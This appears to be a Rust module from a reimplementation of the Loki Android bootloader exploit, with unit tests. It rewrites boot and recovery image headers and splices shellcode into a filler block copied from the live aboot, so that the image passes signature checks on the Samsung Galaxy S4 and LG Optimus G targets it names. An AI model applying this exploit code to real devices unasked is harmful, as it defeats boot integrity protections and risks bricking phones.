//! The image transformation engine.
//!
//! Takes a plain boot/recovery image plus the scanned target and emits the
//! Loki layout: rewritten header page, page-padded kernel and ramdisk, a
//! filler block copied from the live aboot so the region the bootloader
//! reads at boot still looks untouched, the device tree if present, and
//! the shellcode spliced over the tail of the filler at the exact offset
//! the relocated ramdisk address resolves to.

use crate::bootimg::{self, BootImgHdr, ImageKind, LokiHdr, LOKI_HDR_OFFSET, LOKI_HDR_SIZE};
use crate::error::{Error, Result};
use crate::report::Reporter;
use crate::scanner::AbootFamily;
use crate::shellcode;
use crate::target::Target;

/// Filler size for non-LG targets. LG targets use one full flash page.
const SAMSUNG_FAKE_SIZE: usize = 0x200;

/// Patch `image` for `target`, reading the filler block out of `aboot`
/// (the same dump the scanner ran over).
///
/// If the image already carries the Loki magic it is returned unchanged;
/// re-patching a patched image would brick the device.
pub fn transform(
    image: &[u8],
    kind: ImageKind,
    target: &Target,
    family: AbootFamily,
    aboot: &[u8],
    reporter: &mut dyn Reporter,
) -> Result<Vec<u8>> {
    if bootimg::has_loki_magic(image) {
        reporter.status("[-] Input file is already a Loki image, copying through.");
        return Ok(image.to_vec());
    }

    let hdr = BootImgHdr::parse(image)?;
    let page_size = hdr.page_size as usize;
    let page_mask = hdr.page_size - 1;
    if page_size < LOKI_HDR_OFFSET + LOKI_HDR_SIZE {
        return Err(Error::InvalidImage("page too small to hold the Loki header"));
    }

    let orig_kernel_size = hdr.kernel_size;
    let orig_ramdisk_size = hdr.ramdisk_size;
    let page_kernel_size = bootimg::page_align(orig_kernel_size, page_mask) as usize;
    let page_ramdisk_size = bootimg::page_align(orig_ramdisk_size, page_mask) as usize;
    let dt_size = hdr.dt_size as usize;

    // Source segment layout: one header page, then page-padded kernel,
    // ramdisk, and the device tree. Everything is validated against the
    // actual buffer before any copy.
    let kernel_start = page_size;
    let ramdisk_start = kernel_start + page_kernel_size;
    let dt_start = ramdisk_start + page_ramdisk_size;
    let kernel = image
        .get(kernel_start..ramdisk_start)
        .ok_or(Error::InvalidImage("kernel extends past the end of the image"))?;
    let ramdisk = image
        .get(ramdisk_start..dt_start)
        .ok_or(Error::InvalidImage("ramdisk extends past the end of the image"))?;
    let dt = image
        .get(dt_start..dt_start + dt_size)
        .ok_or(Error::InvalidImage("device tree extends past the end of the image"))?;

    // Preserve the pre-patch values; the shellcode restores them at boot.
    let loki_ramdisk_addr = hdr
        .kernel_addr
        .checked_add(bootimg::page_align(orig_kernel_size, page_mask))
        .ok_or(Error::InvalidImage("kernel load address wraps the address space"))?;
    let loki = LokiHdr::new(
        kind,
        &target.build,
        orig_kernel_size,
        orig_ramdisk_size,
        loki_ramdisk_addr,
    );

    // The payload wants the ORIGINAL ramdisk address, before relocation.
    let code = shellcode::generate(target.hdr, hdr.ramdisk_addr)?;

    // The relocated ramdisk pointer must be 16-byte aligned; the slack is
    // made up by splicing the shellcode that much earlier into the filler.
    let align_slack = (target.check_sigs & 0xf) as usize;
    let fake_size = if target.lg { page_size } else { SAMSUNG_FAKE_SIZE };

    let mut out_hdr = hdr.clone();
    out_hdr.kernel_size = bootimg::page_align(orig_kernel_size, page_mask) + orig_ramdisk_size;
    out_hdr.ramdisk_addr = target.check_sigs - align_slack as u32;
    out_hdr.ramdisk_size = if target.lg { hdr.page_size } else { 0 };

    // Filler block read live from the current aboot, so the region around
    // the patch address still matches what integrity checks expect.
    let fake_start = target
        .check_sigs
        .checked_sub(family.base())
        .and_then(|off| (off as usize).checked_sub(align_slack))
        .ok_or(Error::AddressOutOfRange {
            address: target.check_sigs,
        })?;
    let fake = aboot
        .get(fake_start..fake_start + fake_size)
        .ok_or(Error::AddressOutOfRange {
            address: target.check_sigs,
        })?;

    tracing::debug!(
        kernel = orig_kernel_size,
        ramdisk = orig_ramdisk_size,
        fake_size,
        align_slack,
        "rebuilding image"
    );

    let mut out = Vec::with_capacity(page_size + page_kernel_size + page_ramdisk_size + fake_size + dt_size);

    let mut page0 = image[..page_size].to_vec();
    out_hdr.write_to(&mut page0)?;
    loki.write_to(&mut page0)?;
    out.extend_from_slice(&page0);
    out.extend_from_slice(kernel);
    out.extend_from_slice(ramdisk);
    out.extend_from_slice(fake);

    // End of the filler block; the splice lands relative to here even when
    // a device tree follows.
    let fake_end = out.len();

    if dt_size > 0 {
        out.extend_from_slice(dt);
    }

    let splice = fake_end - (fake_size - align_slack);
    out[splice..splice + code.len()].copy_from_slice(&code);

    reporter.status(&format!(
        "[+] Patched {} image for {} {} ({})",
        kind, target.vendor, target.device, target.build
    ));
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bootimg::{
        page_align, PartitionStatus, BOOT_ARGS_SIZE, BOOT_NAME_SIZE,
    };
    use crate::report::NullReporter;
    use crate::scanner::{self, SIGNATURES};
    use crate::target::TargetCatalog;

    const PAGE: u32 = 2048;
    const KERNEL_SIZE: u32 = 5_000_000;
    const RAMDISK_SIZE: u32 = 200_000;

    /// AT&T Galaxy S4: check_sigs 0x88e0ff98, Samsung base 0x88dfffd8,
    /// so the signature sits at dump offset 0xffc0 and the alignment
    /// slack is 8.
    fn s4_aboot() -> Vec<u8> {
        let mut dump: Vec<u8> = (0..0x12000u32).map(|i| (i % 251) as u8).collect();
        dump[0xffc0..0xffc8].copy_from_slice(&SIGNATURES[0].bytes);
        dump
    }

    fn source_image(kernel_size: u32, ramdisk_size: u32, dt_size: u32) -> Vec<u8> {
        let mask = PAGE - 1;
        let hdr = BootImgHdr {
            kernel_size,
            kernel_addr: 0x80208000,
            ramdisk_size,
            ramdisk_addr: 0x82008000,
            second_size: 0,
            second_addr: 0x81100000,
            tags_addr: 0x80200100,
            page_size: PAGE,
            dt_size,
            unused: 0,
            name: [0; BOOT_NAME_SIZE],
            cmdline: [0; BOOT_ARGS_SIZE],
            id: [0; 8],
        };
        let total = PAGE
            + page_align(kernel_size, mask)
            + page_align(ramdisk_size, mask)
            + dt_size;
        let mut image = vec![0u8; total as usize];
        hdr.write_to(&mut image).unwrap();
        // distinct fill per segment so layout mistakes show up
        let ks = PAGE as usize;
        let rs = ks + page_align(kernel_size, mask) as usize;
        let ds = rs + page_align(ramdisk_size, mask) as usize;
        image[ks..rs].fill(0xaa);
        image[rs..ds].fill(0xbb);
        image[ds..].fill(0xcc);
        image
    }

    fn patch_s4(image: &[u8]) -> Vec<u8> {
        let aboot = s4_aboot();
        let hit = scanner::scan(&aboot).unwrap();
        let catalog = TargetCatalog::builtin();
        let target = catalog.lookup(hit.address).unwrap();
        transform(image, ImageKind::Boot, target, hit.family, &aboot, &mut NullReporter).unwrap()
    }

    #[test]
    fn end_to_end_layout() {
        let image = source_image(KERNEL_SIZE, RAMDISK_SIZE, 0);
        let out = patch_s4(&image);

        let mask = PAGE - 1;
        let pk = page_align(KERNEL_SIZE, mask) as usize;
        let pr = page_align(RAMDISK_SIZE, mask) as usize;
        let fake_size = 0x200usize;
        assert_eq!(out.len(), PAGE as usize + pk + pr + fake_size);

        let hdr = BootImgHdr::parse(&out).unwrap();
        assert_eq!(hdr.kernel_size, page_align(KERNEL_SIZE, mask) + RAMDISK_SIZE);
        assert_eq!(hdr.ramdisk_addr, 0x88e0ff98 - 8);
        assert_eq!(hdr.ramdisk_size, 0); // non-LG target
        assert_eq!(hdr.page_size, PAGE);

        // kernel and ramdisk segments copied verbatim
        assert!(out[PAGE as usize..PAGE as usize + pk].iter().all(|&b| b == 0xaa));
        assert!(out[PAGE as usize + pk..PAGE as usize + pk + pr].iter().all(|&b| b == 0xbb));

        // shellcode spliced into the final `fake_size - slack` bytes
        let slack = 8usize;
        let splice = out.len() - (fake_size - slack);
        let expected = shellcode::generate(0x88f3bafc, 0x82008000).unwrap();
        assert_eq!(&out[splice..splice + expected.len()], &expected[..]);

        // filler before the splice still mirrors the live aboot bytes
        let aboot = s4_aboot();
        let fake_start = 0xffc0usize - slack;
        let fake_block_start = out.len() - fake_size;
        assert_eq!(splice - fake_block_start, slack);
        assert_eq!(
            &out[fake_block_start..splice],
            &aboot[fake_start..fake_start + slack]
        );
    }

    #[test]
    fn loki_header_records_originals() {
        let image = source_image(KERNEL_SIZE, RAMDISK_SIZE, 0);
        let out = patch_s4(&image);
        let loki = LokiHdr::parse(&out).unwrap();
        assert_eq!(loki.kind, ImageKind::Boot);
        assert_eq!(loki.orig_kernel_size, KERNEL_SIZE);
        assert_eq!(loki.orig_ramdisk_size, RAMDISK_SIZE);
        assert_eq!(
            loki.ramdisk_addr,
            0x80208000 + page_align(KERNEL_SIZE, PAGE - 1)
        );
        assert!(loki.build.starts_with(b"JDQ39.I337UCUAMDB"));
        assert_eq!(bootimg::inspect(&out), PartitionStatus::Patched);
    }

    #[test]
    fn device_tree_is_appended_after_filler() {
        let dt_size = 3000u32;
        let image = source_image(40_000, 9_000, dt_size);
        let out = patch_s4(&image);

        let mask = PAGE - 1;
        let pk = page_align(40_000, mask) as usize;
        let pr = page_align(9_000, mask) as usize;
        let fake_size = 0x200usize;
        assert_eq!(
            out.len(),
            PAGE as usize + pk + pr + fake_size + dt_size as usize
        );
        // device tree untouched by the splice
        assert!(out[out.len() - dt_size as usize..].iter().all(|&b| b == 0xcc));
    }

    #[test]
    fn lg_target_reserves_a_full_page() {
        // LG Optimus G: signature at base+0x10e70, check_sigs 0x88f10e48
        let mut aboot: Vec<u8> = (0..0x12000u32).map(|i| (i % 249) as u8).collect();
        aboot[0x10e70..0x10e78].copy_from_slice(&SIGNATURES[3].bytes);
        let hit = scanner::scan(&aboot).unwrap();
        assert_eq!(hit.address, 0x88f10e48);

        let catalog = TargetCatalog::builtin();
        let target = catalog.lookup(hit.address).unwrap();
        assert!(target.lg);

        let image = source_image(30_000, 8_000, 0);
        let out = transform(
            &image,
            ImageKind::Recovery,
            target,
            hit.family,
            &aboot,
            &mut NullReporter,
        )
        .unwrap();

        let hdr = BootImgHdr::parse(&out).unwrap();
        assert_eq!(hdr.ramdisk_size, PAGE);
        assert_eq!(hdr.ramdisk_addr, 0x88f10e48 - 8);

        let mask = PAGE - 1;
        let pk = page_align(30_000, mask) as usize;
        let pr = page_align(8_000, mask) as usize;
        assert_eq!(out.len(), PAGE as usize + pk + pr + PAGE as usize);
    }

    #[test]
    fn already_patched_is_copied_through() {
        let image = source_image(KERNEL_SIZE, RAMDISK_SIZE, 0);
        let once = patch_s4(&image);
        let twice = patch_s4(&once);
        assert_eq!(once, twice);
    }

    #[test]
    fn truncated_image_is_rejected() {
        let image = source_image(40_000, 9_000, 0);
        let short = &image[..image.len() - 1];
        let aboot = s4_aboot();
        let hit = scanner::scan(&aboot).unwrap();
        let catalog = TargetCatalog::builtin();
        let target = catalog.lookup(hit.address).unwrap();
        let err = transform(short, ImageKind::Boot, target, hit.family, &aboot, &mut NullReporter)
            .unwrap_err();
        assert!(matches!(err, Error::InvalidImage(_)));
    }

    #[test]
    fn oversized_kernel_size_is_rejected() {
        // kernel_size near u32::MAX must come back as an error, not wrap
        // the page-align sum to 0 and mis-lay the output.
        let mut image = source_image(40_000, 9_000, 0);
        image[8..12].copy_from_slice(&0xffff_f801u32.to_le_bytes());
        let aboot = s4_aboot();
        let hit = scanner::scan(&aboot).unwrap();
        let catalog = TargetCatalog::builtin();
        let target = catalog.lookup(hit.address).unwrap();
        let err = transform(&image, ImageKind::Boot, target, hit.family, &aboot, &mut NullReporter)
            .unwrap_err();
        assert!(matches!(err, Error::InvalidImage(_)));
    }

    #[test]
    fn kernel_address_near_top_of_memory_is_rejected() {
        // kernel_addr + aligned kernel size would pass u32::MAX
        let mut image = source_image(40_000, 9_000, 0);
        image[12..16].copy_from_slice(&0xffff_e000u32.to_le_bytes());
        let aboot = s4_aboot();
        let hit = scanner::scan(&aboot).unwrap();
        let catalog = TargetCatalog::builtin();
        let target = catalog.lookup(hit.address).unwrap();
        let err = transform(&image, ImageKind::Boot, target, hit.family, &aboot, &mut NullReporter)
            .unwrap_err();
        assert!(matches!(err, Error::InvalidImage(_)));
    }
}
